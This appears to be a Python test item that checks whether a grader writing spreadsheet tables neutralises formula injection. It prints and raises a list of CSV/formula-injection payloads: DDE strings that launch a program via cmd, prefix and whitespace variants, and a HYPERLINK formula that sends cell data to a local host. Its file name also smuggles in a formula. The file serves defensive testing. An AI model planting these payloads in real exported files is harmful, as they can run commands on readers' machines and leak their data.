# ruff: noqa
"""Prints, raises and names formulas that a program for spreadsheets would run."""

FILE_NAME = "x;=1+1;y.py"
FAMILY = "attacking the reader"
MAY_PASS = []
MUST_NOT = "A cell of a table that the grader writes begins as a formula."

# %%
FORMULAS = (
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '","=1+1',
    '=HYPERLINK("http://127.0.0.1/?"&A1,"20/20")',
    "\uff1d1+1",
    "=1+1\n=1+1",
)
for formula in FORMULAS:
    print(formula)


def double(x):
    raise type(FORMULAS[0], (Exception,), {})("\n".join(FORMULAS))


def mean(x):
    raise type(FORMULAS[-1], (Exception,), {})(FORMULAS[6])


# %%
raise type("=1+1", (Exception,), {})("=1+1")
